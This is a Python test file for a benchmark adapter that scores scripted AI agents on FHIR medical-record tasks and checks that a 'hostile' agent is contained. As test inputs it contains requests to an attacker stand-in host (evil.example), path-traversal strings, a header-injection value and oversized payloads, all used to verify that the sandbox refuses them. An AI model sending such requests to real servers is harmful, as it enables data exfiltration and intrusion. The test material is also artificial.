"""The adapter run by Inspect on its sample, by agents good, free in form, and hostile."""

import importlib.util
import json
import socket
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl

import pytest

from chartside.errors import SourceError, UsageError
from chartside.evals.adapters.medagent import sample
from chartside.evals.adapters.medagent.environment import LOCAL, Remote, World
from chartside.evals.adapters.medagent.facts import facts_of
from chartside.evals.adapters.medagentbench import material, medagentbench, served_by
from chartside.evals.reports.report import Report
from chartside.evals.running.patients import Records
from chartside.evals.running.run import Asked, run

# Inspect leaves streams of its own to the garbage collector, which says so.
pytestmark = [
    pytest.mark.usefixtures("no_leftovers"),
    pytest.mark.filterwarnings(
        "ignore:Exception ignored in:pytest.PytestUnraisableExceptionWarning"
    ),
]

Scripts = Mapping[str, Sequence[str]]


def _beside(name: str) -> Any:
    spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name(f"{name}.py"))
    assert spec
    assert spec.loader
    held = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(held)
    return held


orders, agents = _beside("medagent_orders"), _beside("medagent_agents")
WORDS = {t["id"].removeprefix("task"): t["instruction"] for t in sample.tasks()}


@pytest.fixture
def agent(model_server: Callable[..., Any]) -> Callable[[Scripts], Any]:
    def start(scripts: Scripts) -> Any:
        return model_server(agents.playing({WORDS[k]: v for k, v in scripts.items()}), "agent")

    return start


def post(body: dict[str, Any]) -> str:
    return f"POST {LOCAL}{body['resourceType']}\n{json.dumps(body)}"


def look(code: str, mrn: str) -> str:
    return f"GET {LOCAL}Observation?patient={mrn}&code={code}"


def as_published() -> dict[str, list[str]]:
    """Everything in the very form that the published graders ask for."""
    level = orders.laboratory("S9000003", "2823-3", occurrenceDateTime="2023-11-14T08:00:00+00:00")
    return {
        "1_1": [f"GET {LOCAL}Patient?family=Okonjo&given=Lena", 'FINISH(["S9000001"])'],
        "1_2": ['FINISH(["Patient not found"])'],
        "2_1": ["FINISH([72])"],
        "2_2": ["FINISH([84])"],
        "3_1": [post(orders.pressure("S9000005")), "FINISH([])"],
        "3_2": [post(orders.pressure("S9000006")), "FINISH([])"],
        "4_1": [look("MG", "S9000001"), "FINISH([2.1])"],
        "4_2": [look("MG", "S9000002"), "FINISH([-1])"],
        "5_1": [look("MG", "S9000003"), post(orders.magnesium("S9000003", "IV")), "FINISH([1.3])"],
        "5_2": ["FINISH([])"],
        "6_1": ["FINISH([130.0])"],
        "6_2": ["FINISH([-1])"],
        "7_1": ["FINISH([131])"],
        "7_2": ["FINISH([104])"],
        "8_1": [post(orders.referral("S9000007", {"text": orders.COMMENT})), "FINISH([])"],
        "8_2": [post(orders.referral("S9000008", {"text": orders.COMMENT})), "FINISH([])"],
        "9_1": [post(orders.potassium("S9000003", "oral")), post(level), "FINISH([3.1])"],
        "9_2": ["FINISH([4.2])"],
        "10_1": [
            post(orders.laboratory("S9000007", "4548-4")),
            'FINISH([7.4, "2021-03-09T12:00:00+00:00"])',
        ],
        "10_2": ['```\nFINISH([6.1, "2023-09-21T12:00:00+00:00"])\n```'],
    }


def as_fhir() -> dict[str, list[str]]:
    """Everything as FHIR R4 has it, in a form that the published graders do not expect."""
    later = {"occurrenceDateTime": "2023-11-14T08:00:00Z"}
    zulu = {"authoredOn": "2023-11-13T10:15:00Z"}
    level = orders.changed(orders.laboratory("S9000003", "2823-3"), **later, **zulu)
    a1c = orders.changed(orders.laboratory("S9000007", "4548-4"), **zulu)
    today = [{"coding": [{"code": "vital-signs"}]}]
    note = [{"text": orders.COMMENT}]
    return {
        **as_published(),
        "1_1": ['FINISH([ "s9000001" ])'],
        "2_1": ['FINISH(["72 years"])'],
        "3_1": [post(orders.changed(orders.pressure("S9000005"), category=today)), "FINISH([])"],
        "3_2": [
            post(orders.changed(orders.pressure("S9000006"), valueString="118/77")),
            "FINISH([])",
        ],
        "4_1": ['FINISH(["2.1 mg/dL"])'],
        "5_1": [post(orders.magnesium("S9000003", {"text": "IV"})), 'FINISH(["2 g ordered"])'],
        "6_1": [f"GET {LOCAL}Observation?code=POST", "FINISH([130])"],
        "8_1": [post(orders.referral("S9000007", note)), "FINISH([])"],
        "8_2": [post(orders.referral("S9000008", note)), "FINISH([])"],
        "9_1": [post(level), post(orders.potassium("S9000003", {"text": "PO"})), "FINISH([3.1])"],
        "10_1": [post(a1c), 'FINISH([7.4, "2021-03-09"])'],
        "10_2": ['FINISH([6.1, "2023-09-21"])'],
    }


def hostile() -> dict[str, list[str]]:
    """Endless, empty, huge and mean turns; those that are left out are done right."""
    return {
        **as_published(),
        "1_1": [look("MG", "S9000001")],
        "1_2": ["I would rather not."],
        "2_1": ["GET " + "x" * 300_000],
        "2_2": ["GET http://evil.example/fhir/Patient?identifier=S9000002", "FINISH([84])"],
        "3_1": [f"POST {LOCAL}Patient\n{json.dumps(orders.pressure('S9000005'))}", "FINISH([])"],
        "3_2": ["POST http://evil.example/fhir/Observation\n{}", "FINISH([])"],
        "4_1": ["POST http://evil.example/\n{}", "FINISH([2.1])"],
        "4_2": ["FINISH([-1]) POST"],
        "5_1": [f"POST {LOCAL}MedicationRequest\n{{not json", "FINISH([1.3])"],
        "6_1": [f"GET {LOCAL}../metadata", f"GET {LOCAL}Observation?_has:x:y=1", "FINISH([130])"],
        "7_1": [""],
        "7_2": [f"GET {LOCAL}Observation%2f..%2f..?a=1", "FINISH([" + "[" * 50_000],
        "8_1": [post(orders.referral("S9000008", {"text": orders.COMMENT})), "FINISH([])"],
        "9_1": [f"POST {LOCAL}MedicationRequest\n" + "[" * 5_000, "FINISH([3.1])"],
        "10_1": ["\ud83d\ude08" * 500],
    }


def measured(report: Report) -> dict[str, tuple[int, int]]:
    (ran,) = report.suites
    assert ran.whole
    assert ran.sample
    assert report.broken == 0
    found: dict[str, tuple[int, int]] = {}
    for case in ran.cases:
        for name, (hit, of) in case.counts.items():
            before = found.get(name, (0, 0))
            found[name] = before[0] + hit, before[1] + of
    return found


def test_an_agent_in_the_published_form_passes_and_writes_no_fhir_by_it(
    agent: Callable[[Scripts], Any], tmp_path: Path
) -> None:
    server = agent(as_published())
    report = run(Asked(("medagentbench",), reasoner=server.reasoner), tmp_path)
    assert measured(report) == {
        "official": (20, 20),
        "official-query": (10, 10),
        "official-action": (10, 10),
        "corrected": (16, 20),  # a bare route and a bare note are no FHIR
        "corrected-query": (10, 10),
        "corrected-action": (6, 10),
        "invalid": (0, 20),
    }
    calls = {case.id: case.cost["calls"] for case in report.suites[0].cases}
    assert calls["task5_1"] == 3
    assert calls["task5_2"] == 1
    assert any('"code":"MG"' in prompt for prompt in server.prompts)


def test_an_agent_that_writes_fhir_is_right_and_does_not_pass(
    agent: Callable[[Scripts], Any], tmp_path: Path
) -> None:
    report = run(Asked(("medagentbench",), reasoner=agent(as_fhir()).reasoner), tmp_path)
    found = measured(report)
    assert found["corrected"] == (20, 20)
    assert found["official"] == (8, 20)
    assert found["official-query"] == (6, 10)
    assert found["official-action"] == (2, 10)
    assert found["invalid"] == (0, 20)


def test_a_hostile_agent_reaches_nothing_and_is_counted(
    agent: Callable[[Scripts], Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = agent(hostile())
    port = int(server.reasoner.rpartition(":")[2].partition("/")[0])
    reached: list[object] = []
    connect = socket.socket.connect

    def watched(self: socket.socket, address: Any) -> None:
        reached.append(address)
        connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", watched)
    report = run(Asked(("medagentbench",), reasoner=server.reasoner), tmp_path)
    assert {a[1] for a in reached if isinstance(a, tuple)} <= {port}
    right = {
        c.id: (c.counts["official"][0], c.counts["corrected"][0]) for c in report.suites[0].cases
    }
    odd = {f"task{name}" for name, said in hostile().items() if said != as_published()[name]}
    assert {name: found for name, found in right.items() if name in odd} == {
        "task1_1": (0, 0),
        "task1_2": (0, 0),
        "task2_1": (0, 0),
        "task2_2": (1, 1),  # it was told that nothing is there, and knew it all the same
        "task3_1": (0, 0),
        "task3_2": (0, 0),
        "task4_1": (0, 0),
        "task4_2": (0, 0),
        "task5_1": (0, 0),
        "task6_1": (1, 1),
        "task7_1": (0, 0),
        "task7_2": (0, 0),
        "task8_1": (0, 0),
        "task9_1": (0, 0),
        "task10_1": (0, 0),
    }
    assert measured(report)["invalid"] == (5, 20)


class FHIRServer:
    """A real server of one patient that keeps what is posted, or refuses it."""

    def __init__(self, *, refuses: bool = False) -> None:
        self.got: list[str] = []
        self.kept: dict[str, Any] = {}
        served = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                served.got.append(f"GET {self.path}")
                held = served.kept.get(self.path.partition("?")[0].removeprefix("/fhir/"))
                self.answer(200, held or served.found(self.path))

            def do_POST(self) -> None:
                served.got.append(f"POST {self.path}")
                text = self.rfile.read(int(self.headers["Content-Length"])).decode()
                if self.path.endswith("/_search"):
                    return self.answer(200, served.found(f"/fhir/Observation?{text}"))
                body = json.loads(text)
                if refuses:
                    return self.answer(422, {"resourceType": "OperationOutcome"})
                name = f"{body['resourceType']}/new-1"
                served.kept[name] = {**body, "id": "new-1", "status": "final"}
                return self.answer(201, {"resourceType": body["resourceType"], "id": "new-1"})

            def answer(self, status: int, body: dict[str, Any]) -> None:
                said = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/fhir+json")
                self.send_header("Content-Length", str(len(said)))
                self.end_headers()
                self.wfile.write(said)

            def log_message(self, *_: Any) -> None:
                """Silence."""

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._http.serve_forever, args=(0.01,), daemon=True).start()
        self.base = f"http://127.0.0.1:{self._http.server_port}/fhir"

    def found(self, path: str) -> dict[str, Any]:
        """The results of one code of one patient of the sample."""
        query = dict(parse_qsl(path.partition("?")[2]))
        held = [
            {"resource": r, "search": {"mode": "match"}}
            for r in (e["resource"] for e in sample.record()["entry"])
            if r["resourceType"] == "Observation"
            if r["subject"]["reference"].endswith(query.get("patient", "?"))
            if r["code"]["coding"][0]["code"] == query.get("code")
        ]
        link = [{"relation": "self", "url": f"http://127.0.0.1{path}"}]
        bundle = {"resourceType": "Bundle", "type": "searchset", "total": len(held)}
        return {**bundle, "link": link, "entry": held}

    def close(self) -> None:
        self._http.shutdown()
        self._http.server_close()


@pytest.fixture
def fhir_server() -> Iterator[Callable[..., FHIRServer]]:
    started: list[FHIRServer] = []

    def start(**how: bool) -> FHIRServer:
        started.append(FHIRServer(**how))
        return started[-1]

    yield start
    for one in started:
        one.close()


async def test_a_real_server_is_asked_and_never_written_to(
    fhir_server: Callable[..., FHIRServer],
) -> None:
    server = fhir_server()
    world = World(Remote(server.base))
    await world.post(f"{server.base}/Observation", orders.pressure("S9000005"))
    found = json.loads(await world.get(f"{server.base}/Observation?patient=S9000005"))
    assert [one.kept for one in world.posted] == [True]
    assert found["total"] == 1
    assert found["entry"][0]["resource"]["valueString"] == "118/77 mmHg"
    assert server.got == ["GET /fhir/Observation?patient=S9000005&_format=json"]


async def test_where_it_is_asked_for_a_server_is_written_to_and_read_again(
    fhir_server: Callable[..., FHIRServer],
) -> None:
    server = fhir_server()
    world = World(Remote(server.base, write=True))
    await world.post(f"{server.base}/Observation", orders.pressure("S9000005"))
    await world.post(f"{server.base}/Patient", {"resourceType": "Patient"})
    assert server.got[:2] == ["POST /fhir/Observation", "GET /fhir/Observation/new-1?_format=json"]
    assert len(server.got) == 2  # only what the benchmark writes is sent
    assert world.posted[0].body["id"] == "new-1"
    refusing = fhir_server(refuses=True)
    world = World(Remote(refusing.base, write=True))
    await world.post(f"{refusing.base}/Observation", orders.pressure("S9000005"))
    assert world.posted[0].problems == ("the server: refused",)


async def test_a_server_is_left_only_for_its_own_addresses(
    fhir_server: Callable[..., FHIRServer],
) -> None:
    server = fhir_server()
    world = World(Remote(server.base))
    for url in (
        "http://evil.example/fhir/Patient?a=1",
        f"{server.base}.evil.example/Patient",
        f"{server.base}/../admin",
        f"{server.base}/Patient/../../admin",
        f"{server.base}/Patient?a=1#x",
        f"{server.base}/Patient?a=1\nHost: x",
        server.base.replace("127.0.0.1", "localhost") + "/Patient",
    ):
        with pytest.raises((UsageError, SourceError)):
            await world.get(url)
    assert server.got == []


async def test_what_answers_rest_on_is_the_same_from_a_server(
    fhir_server: Callable[..., FHIRServer],
) -> None:
    tasks, _ = material("", "")
    remote, here = Remote(fhir_server().base), served_by("")
    for case in tasks.cases:
        if case.category in {4, 5, 6, 7, 9, 10}:
            theirs, ours = await facts_of(case, remote), await facts_of(case, here)
            assert set(theirs.results) == set(ours.results)
            assert ours.results


def test_the_users_tasks_are_run_on_the_users_record(
    agent: Callable[[Scripts], Any], tmp_path: Path
) -> None:
    data, record = tmp_path / "test_data_v2.json", tmp_path / "record.json"
    data.write_text(json.dumps([*sample.tasks(), {"id": "task99_1", "instruction": "?"}]))
    record.write_text(json.dumps(sample.record()))
    note = {"properties": {"note": {"type": "object"}}}
    told = [{"name": "POST {api_base}/ServiceRequest", "parameters": note}]
    data.with_name("funcs_v1.json").write_text(json.dumps(told))
    server = agent(as_published())
    asked = Asked(
        ("medagentbench",),
        Records(str(record)),
        server.reasoner,
        data={"medagentbench": str(data)},
    )
    report = run(asked, tmp_path / "logs")
    (ran,) = report.suites
    assert not ran.sample
    assert sum(ran.set_aside.values()) == 1
    assert json.dumps(told) in server.prompts[0]
    right = {case.id for case in ran.cases if case.counts["corrected"][0]}
    assert len(ran.cases) - len(right) == 2  # the notes are as the agent was told; the routes not
    assert {"task8_1", "task8_2"} <= right


def test_a_record_in_files_is_not_written_to() -> None:
    with pytest.raises(UsageError, match="FHIR server"):
        medagentbench(reasoner="http://127.0.0.1:9/v1#m", write=True)
